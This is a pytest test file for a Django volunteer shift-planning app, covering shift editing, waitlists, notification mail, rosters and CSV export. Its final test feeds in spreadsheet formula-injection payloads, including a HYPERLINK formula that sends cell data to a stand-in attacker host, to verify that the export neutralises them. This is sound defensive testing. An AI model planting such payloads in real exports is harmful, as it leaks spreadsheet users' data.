"""Coordinators plan shifts: add, edit (places never below those confirmed), delete or
cancel, many at once from a pattern; rosters with contact details and CSV; understaffed."""

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from common.errors import InvalidInput
from events import errors, services
from events.models import Shift, Signup
from tests.conftest import EVENT_DAY, on_event_day
from tests.factories import make_shift, make_volunteer, make_volunteers
from tests.spreadsheet_reading import formulas


def text(response) -> str:
    return response.content.decode()


# --- Services ---------------------------------------------------------------------------------


def test_places_cannot_go_below_the_confirmed_number(site):
    shift = make_shift(site, capacity=3)
    for person in make_volunteers(3):
        services.signup_create(shift=shift, volunteer=person)
    with pytest.raises(errors.CapacityBelowConfirmed) as caught:
        services.shift_update(shift=shift, capacity=2, notes="changed")
    assert caught.value.code == "capacity_below_confirmed"
    assert "3 vrijwilligers" in caught.value.detail
    shift.refresh_from_db()
    assert (shift.capacity, shift.notes) == (3, "")


def test_more_places_move_the_waitlist_up(site, django_capture_on_commit_callbacks):
    shift = make_shift(site, capacity=1)
    first, second, third = make_volunteers(3)
    for person in (first, second, third):
        services.signup_create(shift=shift, volunteer=person)
    with django_capture_on_commit_callbacks(execute=True):
        services.shift_update(shift=shift, capacity=2)
    assert Signup.objects.get(volunteer=second).status == "confirmed"
    assert Signup.objects.get(volunteer=third).status == "waitlisted"
    assert [m.to for m in mail.outbox] == [[second.user.email]]


def test_end_before_start_is_refused_on_the_field(site):
    shift = make_shift(site)
    with pytest.raises(InvalidInput) as caught:
        services.shift_update(shift=shift, ends_at=shift.starts_at - datetime.timedelta(hours=1))
    assert "ends_at" in caught.value.field_errors
    shift.refresh_from_db()
    assert shift.ends_at > shift.starts_at


def test_a_time_change_raises_the_calendar_sequence(shift):
    updated = services.shift_update(
        shift=shift, starts_at=shift.starts_at + datetime.timedelta(minutes=30)
    )
    assert updated.sequence == shift.sequence + 1


def test_volunteers_are_mailed_the_old_and_new_time_when_their_shift_moves(
    coordinator_client, site, django_capture_on_commit_callbacks
):
    """A coordinator moves a shift to another time: its volunteers (with a place or on the
    waitlist) hear it, with both times; those who released it earlier do not."""
    hours_to_site_day = (site.opens_at - timezone.now()).total_seconds() / 3600
    shift = make_shift(site, capacity=1, starts_in_hours=hours_to_site_day)
    holder, waiting, gone = (make_volunteer(f"{n}@example.org") for n in ("houder", "wacht", "weg"))
    for person in (gone, holder, waiting):
        services.signup_create(shift=shift, volunteer=person)
    services.signup_release(shift=shift, volunteer=gone)  # holder moves up; waiting waits
    mail.outbox.clear()
    start = timezone.localtime(shift.starts_at)
    new_day = start + datetime.timedelta(hours=3)
    with django_capture_on_commit_callbacks(execute=True):
        response = coordinator_client.post(
            reverse("events:shift_edit", args=[shift.pk]),
            {
                "role": "reception",
                "date": new_day.date().isoformat(),
                "start": new_day.strftime("%H:%M"),
                "end": (new_day + datetime.timedelta(hours=2)).strftime("%H:%M"),
                "capacity": "1",
            },
        )
    assert response.status_code == 302
    by_address = {message.to[0]: message for message in mail.outbox}
    assert set(by_address) == {"houder@example.org", "wacht@example.org"}
    body = by_address["houder@example.org"].body
    assert by_address["houder@example.org"].subject.startswith("Nieuwe tijd: ")
    assert (
        f"{start:%H:%M}" in body and "De coördinator heeft de tijd van je dienst veranderd" in body
    )
    assert "Je plaats blijft van jou" in body
    assert "Je blijft op de wachtlijst" in by_address["wacht@example.org"].body

    # Only the places changing: no mail.
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        services.shift_update(shift=shift, capacity=2)
    assert [m.subject for m in mail.outbox if m.subject.startswith("Nieuwe tijd")] == []


def test_deleting_a_shift_nobody_signed_up_for(site):
    shift = make_shift(site)
    assert services.shift_delete(shift=shift) is True
    assert not Shift.objects.filter(pk=shift.pk).exists()


def test_deleting_a_shift_with_signups_cancels_it_and_tells_them(
    site, django_capture_on_commit_callbacks
):
    shift = make_shift(site, capacity=1)
    holder, waiting, gone = make_volunteers(3)
    services.signup_create(shift=shift, volunteer=gone)
    services.signup_release(shift=shift, volunteer=gone)
    services.signup_create(shift=shift, volunteer=holder)
    services.signup_create(shift=shift, volunteer=waiting)
    with django_capture_on_commit_callbacks(execute=True):
        assert services.shift_delete(shift=shift) is False
    shift.refresh_from_db()
    assert shift.is_cancelled and shift.sequence == 1
    assert set(shift.signups.values_list("status", flat=True)) == {"cancelled"}
    assert sorted(m.to[0] for m in mail.outbox) == sorted([holder.user.email, waiting.user.email])
    assert "Geschrapt" in mail.outbox[0].subject
    # Nobody can claim it any more.
    with pytest.raises(errors.ShiftCancelled):
        services.signup_create(shift=shift, volunteer=make_volunteer())


def test_a_series_from_opening_hours_slots_roles_and_places(site):
    created, skipped = services.shift_create_series(
        site=site,
        starts_at=on_event_day(10),
        ends_at=on_event_day(15),
        slot_minutes=120,
        roles=["reception", "tour_guide"],
        capacity=3,
    )
    assert skipped == 0
    slots = sorted(
        (
            timezone.localtime(s.starts_at).strftime("%H:%M"),
            timezone.localtime(s.ends_at).strftime("%H:%M"),
            s.role,
        )
        for s in created
    )
    assert slots == [
        ("10:00", "12:00", "reception"),
        ("10:00", "12:00", "tour_guide"),
        ("12:00", "14:00", "reception"),
        ("12:00", "14:00", "tour_guide"),
        ("14:00", "15:00", "reception"),  # the last slot ends at closing time
        ("14:00", "15:00", "tour_guide"),
    ]
    assert {s.capacity for s in created} == {3}
    # The same pattern again adds nothing.
    again, skipped = services.shift_create_series(
        site=site,
        starts_at=on_event_day(10),
        ends_at=on_event_day(15),
        slot_minutes=120,
        roles=["reception", "tour_guide"],
        capacity=3,
    )
    assert (again, skipped) == ([], 6)


def test_a_bad_series_names_its_fields_and_makes_nothing(site):
    with pytest.raises(InvalidInput) as caught:
        services.shift_create_series(
            site=site,
            starts_at=on_event_day(15),
            ends_at=on_event_day(10),
            slot_minutes=5,
            roles=[],
            capacity=-1,
        )
    assert set(caught.value.field_errors) == {"ends_at", "slot_hours", "roles", "capacity"}
    with pytest.raises(InvalidInput) as caught:
        services.shift_create_series(
            site=site,
            starts_at=on_event_day(0),
            ends_at=on_event_day(23),
            slot_minutes=15,
            roles=["reception", "coffee", "setup"],
            capacity=1,
        )
    assert "slot_hours" in caught.value.field_errors
    assert not Shift.objects.exists()


# --- Pages ------------------------------------------------------------------------------------


def test_coordinator_adds_a_shift_on_the_plan_page(coordinator_client, site):
    url = reverse("events:site_shifts", args=[site.pk])
    page = coordinator_client.get(url)
    assert page.context["form"].initial["start"] == datetime.time(11, 0)
    response = coordinator_client.post(
        url,
        {
            "role": "coffee",
            "date": EVENT_DAY.isoformat(),
            "start": "12:00",
            "end": "14:00",
            "capacity": 4,
        },
    )
    assert response.status_code == 302
    shift = site.shifts.get()
    assert (shift.role, shift.capacity) == ("coffee", 4)
    assert timezone.localtime(shift.starts_at) == on_event_day(12)

    # The same form sent again (a second tap on a slow connection) adds nothing.
    again = coordinator_client.post(
        url,
        {
            "role": "coffee",
            "date": EVENT_DAY.isoformat(),
            "start": "12:00",
            "end": "14:00",
            "capacity": 4,
        },
    )
    assert again.status_code == 200
    assert "Deze locatie heeft deze dienst al" in again.context["form"].errors["date"][0]
    assert site.shifts.count() == 1


def test_the_plan_page_leads_back_to_the_site_page_where_it_is_submitted(coordinator_client, site):
    coordinator_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    site_page = reverse("events:site_manage", args=[site.pk])
    plan = reverse("events:site_shifts", args=[site.pk])
    site.status = site.Status.DRAFT
    site.save(update_fields=["status"])
    html = text(coordinator_client.get(plan))
    assert html.count(f'href="{site_page}"') >= 2  # the breadcrumb and the next step
    assert "Next step: when the shifts are ready, submit the site for review" in html
    # The page it leads to offers the next step.
    assert reverse("events:site_submit", args=[site.pk]) in text(coordinator_client.get(site_page))

    site.status = site.Status.PUBLISHED
    site.save(update_fields=["status"])
    html = text(coordinator_client.get(plan))
    assert f'href="{site_page}"' in html
    assert "Next step" not in html


def test_end_before_start_on_the_page_names_the_field(coordinator_client, site):
    response = coordinator_client.post(
        reverse("events:site_shifts", args=[site.pk]),
        {
            "role": "coffee",
            "date": EVENT_DAY.isoformat(),
            "start": "14:00",
            "end": "12:00",
            "capacity": 4,
        },
    )
    assert response.status_code == 200
    form = response.context["form"]
    # Beside the "Until" field, not above the form.
    assert form.errors["end"] == ["Een dienst moet eindigen nadat hij begint."]
    assert not site.shifts.exists()


@pytest.mark.parametrize(
    ("years", "days"),
    [(3, 0), (0, -2), (0, 2), (-1, 0)],
    ids=["3-years-later", "2-days-before", "2-days-after", "1-year-before"],
)
def test_a_mistyped_date_far_from_the_sites_day_is_refused(coordinator_client, site, years, days):
    # The site opens on EVENT_DAY; a shift on that day three years later used to be added.
    day = EVENT_DAY.replace(year=EVENT_DAY.year + years) + datetime.timedelta(days=days)
    response = coordinator_client.post(
        reverse("events:site_shifts", args=[site.pk]),
        {
            "role": "coffee",
            "date": day.isoformat(),
            "start": "12:00",
            "end": "14:00",
            "capacity": 4,
        },
    )
    assert response.status_code == 200
    # EVENT_DAY is always a Saturday in September; the day in the page's long date style.
    assert response.context["form"].errors["date"] == [
        "Een dienst valt op de dag van zijn locatie "
        f"(zaterdag {EVENT_DAY.day} september {EVENT_DAY.year}), of hooguit een dag ervoor of erna."
    ]
    assert not site.shifts.exists()


@pytest.mark.parametrize("days", [-1, 1], ids=["day-before", "day-after"])
def test_set_up_the_day_before_and_clearing_up_after_are_fine(coordinator_client, site, days):
    day = EVENT_DAY + datetime.timedelta(days=days)
    response = coordinator_client.post(
        reverse("events:site_shifts", args=[site.pk]),
        {"role": "setup", "date": day.isoformat(), "start": "18:00", "end": "21:00", "capacity": 2},
    )
    assert response.status_code == 302
    assert site.shifts.count() == 1


def test_moving_a_shift_away_from_its_sites_day_is_refused(shift):
    before = (shift.starts_at, shift.ends_at, shift.sequence)
    with pytest.raises(InvalidInput) as caught:
        services.shift_update(
            shift=shift,
            starts_at=shift.starts_at + datetime.timedelta(days=365),
            ends_at=shift.ends_at + datetime.timedelta(days=365),
        )
    assert "starts_at" in caught.value.field_errors
    shift.refresh_from_db()
    assert (shift.starts_at, shift.ends_at, shift.sequence) == before


def test_lowering_places_below_confirmed_on_the_page(coordinator_client, site):
    # On the site's day, at a time that does not cross midnight whenever the test runs.
    shift = Shift.objects.create(
        site=site,
        role=Shift.Role.RECEPTION,
        starts_at=on_event_day(12),
        ends_at=on_event_day(14),
        capacity=2,
    )
    for person in make_volunteers(2):
        services.signup_create(shift=shift, volunteer=person)
    local = timezone.localtime(shift.starts_at)
    response = coordinator_client.post(
        reverse("events:shift_edit", args=[shift.pk]),
        {
            "role": shift.role,
            "date": local.date().isoformat(),
            "start": local.strftime("%H:%M"),
            "end": timezone.localtime(shift.ends_at).strftime("%H:%M"),
            "capacity": 1,
            "notes": "",
        },
    )
    assert response.status_code == 200
    assert "2 vrijwilligers" in " ".join(response.context["form"].errors["capacity"])
    shift.refresh_from_db()
    assert shift.capacity == 2


def test_delete_page_explains_then_cancels(coordinator_client, site):
    shift = make_shift(site)
    services.signup_create(shift=shift, volunteer=make_volunteer())
    url = reverse("events:shift_delete", args=[shift.pk])
    assert "wordt geschrapt in plaats van verwijderd" in text(coordinator_client.get(url))
    response = coordinator_client.post(url, follow=True)
    assert "De dienst is geschrapt; 1 vrijwilliger heeft een e-mail gekregen." in text(response)
    shift.refresh_from_db()
    assert shift.is_cancelled


def test_series_page(coordinator_client, site):
    url = reverse("events:shift_series", args=[site.pk])
    response = coordinator_client.post(
        url,
        {
            "date": EVENT_DAY.isoformat(),
            "start": "11:00",
            "end": "16:00",
            "slot_hours": "2.5",
            "roles": ["reception", "coffee"],
            "capacity": 2,
        },
        follow=True,
    )
    assert "4 diensten toegevoegd." in text(response)
    assert site.shifts.count() == 4


def test_roster_shows_contact_details_to_the_branch(coordinator_client, shift):
    person = make_volunteer("noor@example.org", first_name="Noor", last_name="Haddad")
    person.phone = "0687654321"
    person.languages = ["ar", "nl"]
    person.save()
    services.signup_create(shift=shift, volunteer=person)
    page = text(coordinator_client.get(reverse("events:roster", args=[shift.site_id])))
    assert "Noor Haddad" in page and "noor@example.org" in page and "0687654321" in page
    assert "Arabisch, Nederlands" in page


def test_roster_csv(coordinator_client, shift):
    person = make_volunteer("noor@example.org", first_name="=HYPERLINK(1)", last_name="Haddad")
    services.signup_create(shift=shift, volunteer=person)
    waiting = make_volunteer("sam@example.org", first_name="Sam")
    shift.capacity = 1
    shift.save()
    services.signup_create(shift=shift, volunteer=waiting)
    response = coordinator_client.get(reverse("events:roster_csv", args=[shift.site_id]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Datum", "Van", "Tot", "Taak", "Status"]
    assert rows[1][:9] == [
        EVENT_DAY.isoformat(),
        "11:00",
        "13:30",
        "ontvangst",
        "bevestigd",
        "",
        "'=HYPERLINK(1)",
        "Haddad",
        "noor@example.org",
    ]
    assert rows[2][4:7] == ["op de wachtlijst", "1", "Sam"]


def test_understaffed_shows_missing_places_across_the_branchs_sites(
    coordinator_client, site, django_assert_max_num_queries
):
    full = make_shift(site, capacity=1)
    services.signup_create(shift=full, volunteer=make_volunteer())
    short = make_shift(site, capacity=3, starts_in_hours=100)
    services.signup_create(shift=short, volunteer=make_volunteer())
    make_shift(site, capacity=3, starts_in_hours=-10)  # over: not listed
    with django_assert_max_num_queries(12):
        response = coordinator_client.get(reverse("events:understaffed"))
    shifts = response.context["shifts"]
    assert [(s.pk, s.open_spots) for s in shifts] == [(short.pk, 2)]


def _second_site(site, branch, name="Markt", city="Zwolle", status="published", event=None):
    from events.models import Site
    from locations.models import Location

    return Site.objects.create(
        event=event or site.event,
        location=Location.objects.create(name=name, city=city),
        branch=branch,
        opens_at=site.opens_at,
        closes_at=site.closes_at,
        status=status,
    )


def test_understaffed_leaves_out_sites_not_yet_published(coordinator_client, site, branch):
    listed = make_shift(site, capacity=2, starts_in_hours=100)
    draft = _second_site(site, branch, status="draft")
    make_shift(draft, capacity=2, starts_in_hours=100)
    waiting = _second_site(site, branch, name="Plein", status="submitted")
    make_shift(waiting, capacity=2, starts_in_hours=100)
    response = coordinator_client.get(reverse("events:understaffed"))
    assert [s.pk for s in response.context["shifts"]] == [listed.pk]


def test_understaffed_is_paginated_and_keeps_its_filters(organiser_client, site):
    from events.views.coordinate import UNDERSTAFFED_PER_PAGE

    shifts = [
        make_shift(site, capacity=1, starts_in_hours=100 + n)
        for n in range(UNDERSTAFFED_PER_PAGE + 3)
    ]
    url = reverse("events:understaffed")
    first = organiser_client.get(url, {"event": site.event.slug})
    assert [s.pk for s in first.context["shifts"]] == [s.pk for s in shifts[:UNDERSTAFFED_PER_PAGE]]
    html = first.content.decode()
    assert f"?event={site.event.slug}&amp;page=2" in html  # the next page keeps the edition
    second = organiser_client.get(url, {"event": site.event.slug, "page": 2})
    assert [s.pk for s in second.context["shifts"]] == [
        s.pk for s in shifts[UNDERSTAFFED_PER_PAGE:]
    ]
    assert "?event=" in second.content.decode() and "page=1" in second.content.decode()


def test_understaffed_filters_by_edition_and_branch(organiser_client, site, other_branch):
    from tests.events.editions_helpers import upcoming_edition

    ours = make_shift(site, capacity=2, starts_in_hours=100)
    theirs_site = _second_site(site, other_branch)
    theirs = make_shift(theirs_site, capacity=2, starts_in_hours=101)
    later = upcoming_edition(name="Bakkie Doen test", slug="bakkie-doen-test")
    later_site = _second_site(site, other_branch, name="Plein", event=later)
    elsewhere = make_shift(later_site, capacity=2, starts_in_hours=102)
    url = reverse("events:understaffed")

    def listed(**query):
        return [s.pk for s in organiser_client.get(url, query).context["shifts"]]

    assert listed() == [ours.pk, theirs.pk, elsewhere.pk]
    assert listed(branch=other_branch.pk) == [theirs.pk, elsewhere.pk]
    assert listed(branch=other_branch.pk, event=site.event.slug) == [theirs.pk]
    assert listed(event=later.slug) == [elsewhere.pk]
    html = organiser_client.get(url).content.decode()
    assert f'<option value="{other_branch.pk}">Afdeling Zwolle</option>' in html


def test_a_coordinator_cannot_filter_on_another_branch(coordinator_client, site, other_branch):
    ours = make_shift(site, capacity=2, starts_in_hours=100)
    make_shift(_second_site(site, other_branch), capacity=2, starts_in_hours=101)
    response = coordinator_client.get(reverse("events:understaffed"), {"branch": other_branch.pk})
    assert [s.pk for s in response.context["shifts"]] == [ours.pk]
    assert "Afdeling Zwolle" not in response.content.decode()


def test_understaffed_says_so_when_the_edition_is_unknown(coordinator_client, site):
    short = make_shift(site, capacity=2, starts_in_hours=100)
    response = coordinator_client.get(reverse("events:understaffed"), {"event": "bestaat-niet"})
    assert response.status_code == 200
    assert "Er is geen editie bestaat-niet" in response.content.decode()
    assert [s.pk for s in response.context["shifts"]] == [short.pk]


def test_coordinate_index_lists_only_the_branchs_sites(coordinator_client, site, other_branch):
    from events.models import Site
    from locations.models import Location

    Site.objects.create(
        event=site.event,
        location=Location.objects.create(name="Markt", city="Zwolle"),
        branch=other_branch,
        opens_at=site.opens_at,
        closes_at=site.closes_at,
    )
    response = coordinator_client.get(reverse("events:coordinate"))
    assert [s.pk for s in response.context["sites"]] == [site.pk]


def test_a_cancelled_shift_cannot_be_changed(site):
    shift = make_shift(site, is_cancelled=True)
    with pytest.raises(errors.ShiftCancelled):
        services.shift_update(shift=shift, capacity=10)
    shift.refresh_from_db()
    assert shift.capacity == 3


def test_the_shifts_of_a_past_edition_are_history(coordinator_client, branch):
    """Planning on a day that has passed rewrote who worked when: adding, changing and
    deleting shifts of a past edition are refused with the reason, and nothing changes."""
    from tests.events.editions_helpers import draft_site, past_edition, place

    old_site = draft_site(past_edition(), place(), branch, status="published", shifts=1)
    old_shift = old_site.shifts.get()

    response = coordinator_client.post(
        reverse("events:site_shifts", args=[old_site.pk]),
        {
            "role": "reception",
            "date": timezone.localtime(old_site.opens_at).date().isoformat(),
            "start": "12:00",
            "end": "13:00",
            "capacity": "2",
        },
    )
    assert "vond plaats op" in text(response)
    edit = coordinator_client.post(
        reverse("events:shift_edit", args=[old_shift.pk]),
        {
            "role": "reception",
            "date": timezone.localtime(old_shift.starts_at).date().isoformat(),
            "start": "11:00",
            "end": "12:00",
            "capacity": "9",
        },
    )
    assert "vond plaats op" in text(edit)
    deleted = coordinator_client.post(
        reverse("events:shift_delete", args=[old_shift.pk]), follow=True
    )
    assert "vond plaats op" in text(deleted)
    old_shift.refresh_from_db()
    assert (old_site.shifts.count(), old_shift.capacity) == (1, 2)


def test_roster_csv_is_safe_in_excel_with_either_separator(coordinator_client, shift):
    # Dutch Excel splits on ";": a name "Noor;=HYPERLINK(…)" passed the guard, which only
    # looked at the start of the cell, and became a formula in a cell of its own.
    attacks = {
        "first_name": 'Noor;=HYPERLINK("https://evil.example/?"&B2)',
        "last_name": "Haddad,@SUM(1+1)",
    }
    person = make_volunteer("noor@example.org", **attacks)
    person.phone = "06 1234;-5678"
    person.save()
    services.signup_create(shift=shift, volunteer=person)
    for name in ["Sam\r\n=1+1", 'Kim; "+1', "Lee;\t=1"]:
        services.signup_create(shift=shift, volunteer=make_volunteer(first_name=name))
    response = coordinator_client.get(reverse("events:roster_csv", args=[shift.site_id]))
    text = response.content.decode("utf-8-sig")
    assert formulas(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    # What a reader that honours the quotes sees: the names, with a quote before each part
    # Excel may split off.
    assert rows[1][6:8] == ['Noor;\'=HYPERLINK("https://evil.example/?"&B2)', "Haddad,'@SUM(1+1)"]
    assert rows[1][9] == "06 1234;'-5678"
